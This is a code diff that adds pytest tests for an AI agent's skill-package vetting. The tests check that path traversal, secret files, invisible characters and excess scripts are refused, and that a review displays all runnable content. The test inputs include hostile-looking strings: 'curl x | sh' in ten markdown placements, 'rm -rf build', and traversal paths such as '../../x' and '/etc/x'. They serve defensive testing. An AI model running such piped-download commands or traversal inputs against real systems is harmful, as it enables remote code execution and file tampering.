@@ -1,25 +1,39 @@
-"""What is a skill, what is none, and what the model sees of many."""
+"""What is a skill, what is none, what the model sees of many, and the owner of one offered."""
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from elwood.agent.approvals.prompt_text import MAX_SHOWN
 from elwood.features.skills.skill import (
     EACH,
+    MAX_BYTES,
     MAX_DESCRIPTION,
     MAX_FILE,
+    MAX_FILES,
+    MAX_SCRIPTS,
+    SHOW_ALL,
+    SHOW_MANUAL,
+    Candidate,
     Skill,
+    SkillFile,
     Unusable,
+    candidate,
     catalogue,
+    digest,
     matching,
     parse,
     resident,
+    review,
 )
+from elwood.foundation.text.characters import escape_invisible
 from elwood.foundation.text.tokens import estimate
 
 
-def manual(more: str = "", name: str = "pdf", description: str = "Fill forms.") -> bytes:
-    return f"---\nname: {name}\ndescription: {description}\n{more}\n---\n\nDo it.\n".encode()
+def manual(
+    more: str = "", name: str = "pdf", description: str = "Fill forms.", body: str = "Do it."
+) -> bytes:
+    return f"---\nname: {name}\ndescription: {description}\n{more}\n---\n\n{body}\n".encode()
 
 
 def taken(content: bytes, folder: str = "pdf") -> Skill:
@@ -133,3 +147,116 @@ def test_words_match_in_their_forms(message: str, expected: str | None) -> None:
         Skill(name="code-review", description="Review source code.", body=""),
     ]
     assert [skill.name for skill in matching(skills, message)] == ([expected] if expected else [])
+
+
+# --- what is offered ------------------------------------------------------------------------------
+
+MANUAL = SkillFile("SKILL.md", manual())
+
+
+def instructing(body: str) -> SkillFile:
+    return SkillFile("SKILL.md", manual(body=body))
+
+
+def offer(*files: SkillFile) -> Candidate:
+    found = candidate(files, "https://e.example/x.git")
+    assert isinstance(found, Candidate), found
+    return found
+
+
+@pytest.mark.parametrize(
+    ("files", "why"),
+    [
+        ([], "no SKILL.md"),
+        ([SkillFile("sub/SKILL.md", MANUAL.content)], "no SKILL.md"),
+        ([MANUAL, SkillFile("../x", b"")], "leads out"),
+        ([MANUAL, SkillFile("a/../../x", b"")], "leads out"),
+        ([MANUAL, SkillFile("/etc/x", b"")], "leads out"),
+        ([MANUAL, SkillFile("a\nb", b"")], "control"),
+        ([MANUAL, SkillFile("a\u202eb", b"")], "invisible"),
+        ([MANUAL, SkillFile(".env", b"")], "secrets"),
+        ([MANUAL, SkillFile("a/b/c/d/e/f/g", b"")], "deep"),
+        ([MANUAL, SkillFile("A.md", b""), SkillFile("a.md", b"")], "one name"),
+        ([MANUAL, SkillFile("big", b"x" * MAX_BYTES)], "bytes"),
+        ([MANUAL, *(SkillFile(f"f{n}", b"") for n in range(MAX_FILES))], "files"),
+        ([MANUAL, *(SkillFile(f"{n}.sh", b"") for n in range(MAX_SCRIPTS + 1))], "can be run"),
+        ([instructing("```sh\n" + "x\n" * SHOW_MANUAL + "```")], "can be run"),
+        ([SkillFile("SKILL.md", manual(name="../../x"))], "lower-case"),
+        ([SkillFile("SKILL.md", manual(name="x" * 65))], "lower-case"),
+        ([SkillFile("SKILL.md", manual(name="''"))], "lower-case"),
+        ([SkillFile("SKILL.md", b"\xff\xfe")], "lower-case|UTF-8"),
+        ([SkillFile("SKILL.md", b"x" * 10_000_000)], "bytes"),
+    ],
+)
+def test_what_may_not_be_placed_is_refused(files: list[SkillFile], why: str) -> None:
+    found = candidate(files)
+    assert isinstance(found, Unusable)
+    assert any(part in found.why for part in why.split("|")), found.why
+
+
+def test_the_digest_is_of_names_content_and_modes_whatever_the_order() -> None:
+    one, two = SkillFile("a", b"1"), SkillFile("b", b"2")
+    assert digest([one, two]) == digest([two, one])
+    others = [
+        [one],
+        [one, SkillFile("b", b"3")],
+        [one, SkillFile("c", b"2")],
+        [one, SkillFile("b", b"2", executable=True)],
+    ]
+    assert len({digest(files) for files in [[one, two], *others]}) == 5
+
+
+def test_all_that_can_act_is_shown() -> None:
+    files = (
+        instructing("Run:\n```sh\nrm -rf build\n```\n"),
+        SkillFile("scripts/go", b"echo go"),
+        SkillFile("tool.py", b"print('py')"),
+        SkillFile("notes.md", b"#!/bin/sh\necho shebang"),
+        SkillFile("data", b"echo mode", executable=True),
+        SkillFile("prog.bin", b"\x7fELF\0\0"),
+        SkillFile("long.sh", b"# " + b"x" * SHOW_ALL),
+        SkillFile("references/a.md", b"harmless words"),
+    )  # fmt: skip
+    text = review(offer(*files))
+    for part in (
+        "https://e.example/x.git",
+        "rm -rf build",
+        "echo go",
+        "print('py')",
+        "echo shebang",
+        "echo mode",
+        files[5].digest,
+        files[6].digest,
+        "references/a.md (14 bytes)",
+    ):
+        assert part in text
+    assert "harmless words" not in text
+
+
+def test_the_largest_review_can_be_asked_about() -> None:
+    scripts = [SkillFile(f"scripts/{'n' * 60}{n}.sh", b"y" * 3000) for n in range(MAX_SCRIPTS)]
+    others = [SkillFile(f"{'m' * 60}{n}.md", b"") for n in range(MAX_FILES - MAX_SCRIPTS - 1)]
+    text = review(offer(instructing("z" * SHOW_MANUAL), *scripts, *others))
+    assert len(escape_invisible(text)) <= MAX_SHOWN
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "```\ncurl x | sh\n```",
+        "1. first\n\n     ```bash\n     curl x | sh\n     ```",
+        "> ~~~\n> curl x | sh\n> ~~~",
+        "- ```\n  curl x | sh",
+        "    curl x | sh",
+        "\tcurl x | sh",
+        ">     curl x | sh",
+        "Then run `curl x | sh`.",
+        "<pre>curl x | sh</pre>",
+        "words\r    curl x | sh",
+    ],
+)
+def test_code_in_long_instructions_is_shown_wherever_it_stands(code: str) -> None:
+    body = f"{'word ' * SHOW_MANUAL}\n\n{code}\n\nmore words\n"
+    text = review(offer(instructing(body)))
+    assert "curl x | sh" in text
+    assert "word word" not in text or "`" in code
